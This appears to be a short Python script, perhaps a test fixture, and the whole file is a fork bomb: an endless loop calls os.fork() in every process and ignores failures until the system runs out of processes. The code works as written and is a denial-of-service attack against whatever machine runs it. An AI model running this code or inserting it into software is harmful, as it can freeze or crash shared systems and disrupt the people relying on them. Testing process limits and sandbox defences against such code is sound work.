# ruff: noqa
"""Forks for as long as it can, in every child too."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
